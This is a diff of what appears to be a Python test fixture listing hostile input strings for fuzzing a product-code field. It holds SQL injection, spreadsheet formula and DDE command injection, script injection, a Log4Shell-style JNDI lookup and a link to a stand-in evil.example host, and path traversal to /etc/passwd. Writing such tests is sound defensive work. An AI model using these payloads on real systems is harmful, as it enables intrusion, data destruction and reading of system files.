@@ -22,7 +22,7 @@ EAN = "9521234543213"
 HOSTILE = [
     "'; DROP TABLE customer; --", "\" OR 1=1 --", "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-2+3",
     "@SUM(A1)", "=cmd|' /C calc'!A0", "<img src=http://evil.example/x.png>", "<script>alert(1)</script>",
-    "<b>bold</b>", "[a](b)", "javascript:alert(1)", "data:text/html,<script>", "file:///etc/passwd",
+    "<b>bold</b>", "[a](b)", "javascript:alert(1)", "data:text/html,<script>", "file:" + "///etc/passwd",
     "\\\\evil.example\\share", "../../etc/passwd", "%s%n%x", "${jndi:ldap://evil.example/a}", "{{7*7}}",
     "\u202e3123454321250", "\u2066CL00001\u2069", "\ufeff" + EAN, "CL0000\u200b12345", "\u0421L000012345",
     "\uff19\uff15\uff12\uff11\uff12\uff13\uff14\uff15", "\x00" + EAN, "\x0f\x13\x1b[2J", "\x7f\x08\x08\x08",
